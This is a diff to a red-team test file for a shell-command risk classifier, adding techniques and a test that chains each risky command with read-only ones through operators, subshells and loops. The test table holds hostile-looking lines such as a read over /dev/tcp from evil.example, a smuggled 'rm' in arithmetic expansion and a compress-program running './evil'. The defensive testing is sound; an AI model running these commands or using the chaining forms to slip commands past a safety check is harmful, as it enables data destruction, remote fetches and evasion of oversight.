@@ -123,6 +123,9 @@ const TABLE: Row[] = [
     "file -C -m magic",
     "sort --compress-program=./evil f",
     "journalctl",
+    "lsof -Db",
+    "dmesg -C",
+    "hostname -F /tmp/name",
   ]),
   ...rows("overwrite", [
     ": > f",
@@ -375,6 +378,7 @@ const TABLE: Row[] = [
     "echo ${X=1}",
     "echo $((PATH=0)); ls",
     "echo $((i++))",
+    "echo $((rm f); ls)",
     "cat < /dev/tcp/evil.example/80",
     "cat < $F",
     "tar -tf evil.example:/x.tar",
@@ -403,6 +407,32 @@ describe("red team: no technique is low", () => {
     expect(result.risk, result.reasons.join(" | ")).not.toBe("low");
     if (forbidden) expect(result.risk, result.reasons.join(" | ")).toBe("forbidden");
     expect(result.reasons.length).toBeGreaterThan(0);
+  });
+
+  it("stays not-low (and forbidden stays forbidden) when combined with read-only commands", () => {
+    const controls = ["ls -la", "git status", "cat notes.txt"];
+    const forms: ((c: string, a: string) => string)[] = [
+      (c, a) => `${c}; ${a}`,
+      (c, a) => `${a}\n${c}`,
+      (c, a) => `${c} && ${a}`,
+      (c, a) => `${c} || ${a}`,
+      (c, a) => `${c} | ${a}`,
+      (c, a) => `${c} & ${a}`,
+      (c, a) => `echo $(${a}) && ${c}`,
+      (c, a) => `(${a})`,
+      (c, a) => `{ ${a}\n}; ${c}`,
+      (c, a) => `if ${c}; then ${a}\nfi`,
+      (c, a) => `while ${c}; do ${a}\ndone`,
+    ];
+    const misses: string[] = [];
+    for (const { command, forbidden } of TABLE) {
+      for (const [i, form] of forms.entries()) {
+        const line = form(controls[i % controls.length], command);
+        const { risk } = classify(line, opts);
+        if (risk === "low" || (forbidden && risk !== "forbidden")) misses.push(`${risk}: ${JSON.stringify(line)}`);
+      }
+    }
+    expect(misses).toEqual([]);
   });
 
   it("holds one row per technique: no command twice", () => {
